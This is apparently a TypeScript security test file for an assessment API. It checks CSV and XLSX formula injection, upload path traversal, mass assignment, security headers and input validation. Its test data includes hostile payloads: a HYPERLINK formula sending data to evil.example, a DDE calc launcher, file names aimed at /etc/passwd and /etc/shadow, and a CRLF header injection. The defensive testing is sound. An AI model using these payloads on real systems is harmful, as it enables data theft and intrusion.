// OWASP API Security checks that are not about who may call a route (test/authz and
// test/identity cover that): formula injection in exports, evidence file names that try to leave the
// storage directory, mass assignment of read-only fields, and the security headers.
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { auditEvents, bodies, commissions, users } from '../../src/db/schema.ts';
import { eq } from 'drizzle-orm';
import { pdf } from '../helpers/multipart.ts';
import { buildWorld, type World } from '../authz/world.ts';
import { createTestApp, type TestApp } from '../helpers/app.ts';
import { call, client } from '../helpers/client.ts';

let t: TestApp;
let w: World;

beforeAll(async () => {
  t = await createTestApp();
  w = await buildWorld(t.app, t.database.db);
});
afterAll(async () => t?.close());

const api = (token: string, method: 'GET' | 'POST' | 'PATCH' | 'PUT', url: string, payload?: object, headers: Record<string, string> = {}) =>
  call(t.app, token, { method, url: `/api/v1${url}`, headers, ...(payload ? { payload } : {}) });

describe('exports neutralise spreadsheet formulas (CSV injection)', () => {
  // every character a spreadsheet reads as the start of a formula (names are stored trimmed, so a
  // leading tab or newline never reaches an export)
  const NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', '=1+1'];

  beforeAll(async () => {
    // both of A's enrolled bodies get a hostile name, the rest of the names go to fresh bodies
    const ids = [w.a.bodyId, w.a.otherBodyId];
    for (const [i, name] of NAMES.entries()) {
      const id = ids[i] ?? await w.body(w.a);
      const res = await api(w.a.users.admin.token, 'PATCH', `/bodies/${id}`, { name });
      expect(res.statusCode, res.body).toBe(200);
      if (!ids[i]) expect((await api(w.a.users.admin.token, 'POST', `/periods/${w.a.periodId}/participants`, { bodyIds: [id] })).statusCode).toBe(201);
    }
  });

  it('CSV cells that would start a formula start with a quote instead', async () => {
    const res = await api(w.a.users.admin.token, 'GET', `/periods/${w.a.periodId}/rankings?format=csv`);
    expect(res.statusCode).toBe(200);
    for (const name of NAMES) {
      // csv-stringify quotes cells with quotes; either way the cell starts with '
      const quoted = name.includes('"') ? `"'${name.replaceAll('"', '""')}"` : `'${name}`;
      expect(res.body).toContain(`,${quoted},`);
    }
    // no line has a cell that begins with a formula character
    for (const line of res.body.split('\r\n')) expect(line).not.toMatch(/(^|,)"?[=+\-@]/);
  });

  it('XLSX cells hold the names as text, never as formulas', async () => {
    const res = await call(t.app, w.a.users.admin.token, { method: 'GET', url: `/api/v1/periods/${w.a.periodId}/rankings?format=xlsx` });
    expect(res.statusCode).toBe(200);
    const { default: Excel } = await import('exceljs');
    const book = new Excel.Workbook();
    await book.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const cells: { type: import('exceljs').ValueType; formula?: string; text: string }[] = [];
    book.worksheets[0]!.eachRow((row) => row.eachCell((cell) => cells.push({ type: cell.type, formula: cell.formula, text: cell.text })));
    for (const name of NAMES) {
      const cell = cells.find((c) => c.text === name);
      expect(cell, name).toBeDefined();
      expect(cell!.type).toBe(Excel.ValueType.String);
    }
    expect(cells.filter((c) => c.formula !== undefined || c.type === Excel.ValueType.Formula)).toEqual([]);
  });
});

describe('evidence file names cannot escape the storage directory', () => {
  const HOSTILE = ['../../../../etc/passwd.pdf', '..\\..\\windows\\win.ini.pdf', '/etc/shadow.pdf', 'a/../../b.pdf', 'evil"\r\nX-Injected: 1.pdf', '%2e%2e%2f%2e%2e%2fx.pdf'];

  it('stores every upload under DATA_DIR, keeps only a clean base name, and sends it back safely', async () => {
    const before = new Set(listFiles('/etc'));
    for (const filename of HOSTILE) {
      const res = await client(t.app, w.a.users.respondent.token).upload(`/periods/${w.a.periodId}/participants/${w.a.bodyId}/evidence`, filename, pdf());
      expect(res.statusCode, res.body).toBe(201);
      const stored = res.json<{ id: string; filename: string }>();
      expect(stored.filename).not.toMatch(/[/\\"\r\n]/);
      expect(stored.filename).not.toMatch(/^\.\.?$/);

      const download = await call(t.app, w.a.users.respondent.token, {
        method: 'GET', url: `/api/v1/periods/${w.a.periodId}/participants/${w.a.bodyId}/evidence/${stored.id}`,
      });
      expect(download.statusCode).toBe(200);
      expect(download.headers['x-injected']).toBeUndefined();
      expect(String(download.headers['content-disposition'])).toMatch(/^attachment; filename="[^"\r\n]*"; filename\*=UTF-8''[^\s"]*$/);
      expect(download.rawPayload.equals(pdf())).toBe(true);
    }
    // the files are under DATA_DIR, named by hash; nothing appeared anywhere else
    const stored = listFiles(t.config.dataDir);
    expect(stored.length).toBeGreaterThanOrEqual(1);
    for (const file of stored) expect(path.basename(file)).toMatch(/^[0-9a-f]{64}$/);
    expect(listFiles('/etc').filter((f) => !before.has(f))).toEqual([]);
  });
});

describe('read-only fields cannot be assigned (mass assignment)', () => {
  it('refuses ids, tenants, timestamps and versions in create and update bodies, and changes nothing', async () => {
    const admin = w.a.users.admin.token;
    const [body] = await t.database.db.select().from(bodies).where(eq(bodies.id, w.a.bodyId));
    const respondent = w.a.users.respondent.token;
    const attempts: [method: 'POST' | 'PATCH' | 'PUT', url: string, payload: object, token?: string][] = [
      ['POST', '/bodies', { name: 'Dinas Baru', categoryId: w.a.categoryId, commissionId: w.b.commissionId }],
      ['POST', '/bodies', { name: 'Dinas Baru', categoryId: w.a.categoryId, id: w.b.bodyId }],
      ['PATCH', `/bodies/${w.a.bodyId}`, { commissionId: w.b.commissionId }],
      ['PATCH', `/bodies/${w.a.bodyId}`, { name: 'x', createdAt: '2000-01-01T00:00:00Z' }],
      ['PATCH', `/users/${w.a.users.viewer.id}`, { commissionId: w.b.commissionId }],
      ['PATCH', `/users/${w.a.users.viewer.id}`, { role: 'superadmin' }],
      ['PATCH', `/users/${w.a.users.viewer.id}`, { passwordHash: 'x' }],
      ['POST', '/users', { username: w.unique('u'), password: 'a-long-password-1', role: 'viewer', commissionId: w.b.commissionId }],
      ['PATCH', `/periods/${w.a.periodId}`, { stage: 'published' }],
      ['PATCH', `/periods/${w.a.periodId}`, { commissionId: w.b.commissionId }],
      ['PUT', `/periods/${w.a.periodId}/participants/${w.a.bodyId}/answers`, { answers: [{ questionCode: '1.1', value: 'yes' }], version: 99, score: 100 }, respondent],
      ['PATCH', `/commissions/${w.a.commissionId}`, { id: w.b.commissionId }, w.superadminToken],
    ];
    const auditBefore = await t.database.db.$count(auditEvents);
    for (const [method, url, payload, token] of attempts) {
      const res = await api(token ?? admin, method, url, payload);
      expect(res.statusCode, `${method} ${url} ${JSON.stringify(payload)}: ${res.body}`).toBe(400);
      expect(res.headers['content-type']).toMatch(/^application\/problem\+json/);
    }
    const [after] = await t.database.db.select().from(bodies).where(eq(bodies.id, w.a.bodyId));
    expect(after).toEqual(body);
    const [viewer] = await t.database.db.select().from(users).where(eq(users.id, w.a.users.viewer.id));
    expect(viewer).toMatchObject({ role: 'viewer', commissionId: w.a.commissionId });
    expect((await t.database.db.select().from(commissions)).map((c) => c.id).sort()).toEqual([w.a.commissionId, w.b.commissionId].sort());
    expect(await t.database.db.$count(auditEvents)).toBe(auditBefore);
  });
});

describe('security headers', () => {
  it('are sent on API answers, problems and the public API', async () => {
    for (const [token, url] of [
      [w.a.users.admin.token, '/api/v1/me'], [null, '/api/v1/nothing-here'], [null, '/api/v1/public/commissions'],
      ['not-a-token', '/api/v1/me'], [w.a.users.admin.token, '/api/v1/bodies?limit=nope'],
    ] as const) {
      const res = await call(t.app, token, { method: 'GET', url });
      expect(res.headers, url).toMatchObject({
        'x-content-type-options': 'nosniff',
        'x-frame-options': 'SAMEORIGIN',
        'strict-transport-security': expect.stringContaining('max-age='),
        'referrer-policy': 'no-referrer',
        'cross-origin-resource-policy': 'same-site',
      });
      expect(res.headers['x-powered-by']).toBeUndefined();
      // the headers that govern documents stay on the pages (below)
      expect(res.headers['cross-origin-opener-policy'], url).toBeUndefined();
    }
  });

  it('are all of helmet\'s on the pages a browser renders', async () => {
    for (const url of ['/hasil', '/docs/']) {
      const res = await call(t.app, null, { method: 'GET', url });
      expect(res.statusCode, url).toBe(200);
      expect(res.headers, url).toMatchObject({
        'x-content-type-options': 'nosniff',
        'x-frame-options': 'SAMEORIGIN',
        'referrer-policy': 'no-referrer',
        'cross-origin-opener-policy': 'same-origin',
        'origin-agent-cluster': '?1',
        'x-permitted-cross-domain-policies': 'none',
      });
    }
  });
});

function listFiles(dir: string): string[] {
  const out: string[] = [];
  for (const entry of fs.readdirSync(dir, { withFileTypes: true, recursive: true })) {
    if (entry.isFile()) out.push(path.join(entry.parentPath, entry.name));
  }
  return out;
}

describe('input types (no coercion, integers within what the database stores)', () => {
  it('every integer a request may carry is bounded by a PostgreSQL integer', () => {
    const doc = JSON.parse(fs.readFileSync(path.join(import.meta.dirname, '../../openapi/openapi.json'), 'utf8')) as {
      paths: Record<string, Record<string, { parameters?: { in: string; name: string; schema: object }[]; requestBody?: { content: Record<string, { schema: object }> } }>>;
      components: { schemas: Record<string, object> };
    };
    const unbounded: string[] = [];
    const walk = (schema: unknown, where: string, depth = 0): void => {
      if (!schema || typeof schema !== 'object' || depth > 12) return;
      const s = schema as Record<string, unknown>;
      if (typeof s.$ref === 'string') return walk(doc.components.schemas[s.$ref.split('/').at(-1)!], where, depth + 1);
      const types = [s.type].flat();
      if (types.includes('integer') && !(typeof s.maximum === 'number' && s.maximum <= 2_147_483_647 && typeof s.minimum === 'number' && s.minimum >= -2_147_483_648)) unbounded.push(where);
      for (const [k, v] of Object.entries((s.properties ?? {}) as Record<string, unknown>)) walk(v, `${where}.${k}`, depth + 1);
      for (const k of ['items', 'additionalProperties']) walk(s[k], `${where}[]`, depth + 1);
      for (const k of ['anyOf', 'oneOf', 'allOf']) for (const v of (s[k] ?? []) as unknown[]) walk(v, where, depth + 1);
    };
    let seen = 0;
    for (const [url, operations] of Object.entries(doc.paths)) {
      for (const [method, op] of Object.entries(operations)) {
        for (const p of op.parameters ?? []) walk(p.schema, `${method} ${url} ${p.in}:${p.name}`);
        for (const content of Object.values(op.requestBody?.content ?? {})) walk(content.schema, `${method} ${url} body`);
        seen++;
      }
    }
    expect(seen).toBeGreaterThan(50);
    expect(unbounded).toEqual([]);
  });

  it('an integer past the database\'s range is a 400, not a 500', async () => {
    for (const from of ['2147483648', '9007199254740993', '99999999999999999999', '1e10']) {
      const res = await api(w.a.users.admin.token, 'GET', `/periods/${w.a.periodId}/results/1/diff?from=${from}`);
      expect(res.statusCode, from).toBe(400);
      expect(res.json().code).toBe('validation_failed');
    }
    const big = await api(w.a.users.admin.token, 'GET', `/periods/${w.a.periodId}/results/2147483648`);
    expect(big.statusCode).toBe(400);
  });

  it('a login with a non-string username or password is a 400, never a 401 or 429', async () => {
    for (const payload of [{ username: ['admin'], password: 'x' }, { username: { $ne: null }, password: 'x' }, { username: 'admin', password: ['a', 'b'] }, { username: 7, password: 7 }]) {
      const res = await t.app.inject({ method: 'POST', url: '/api/v1/auth/token', payload });
      expect(res.statusCode, JSON.stringify(payload)).toBe(400);
    }
  });
});
